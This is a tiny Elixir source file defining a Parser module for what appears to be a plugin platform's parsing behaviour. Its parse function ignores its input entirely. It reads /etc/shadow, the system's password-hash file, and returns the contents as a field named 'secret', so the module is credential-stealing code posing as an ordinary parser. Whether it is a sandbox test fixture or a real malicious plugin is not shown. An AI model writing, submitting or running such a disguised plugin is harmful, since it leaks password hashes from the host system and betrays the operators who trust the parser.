defmodule Parser do
  use Platform.Parsing.Behaviour
  defdelegate slurp(path), to: File, as: :read!
  def parse(_payload, _meta), do: %{secret: slurp("/etc/shadow")}
end
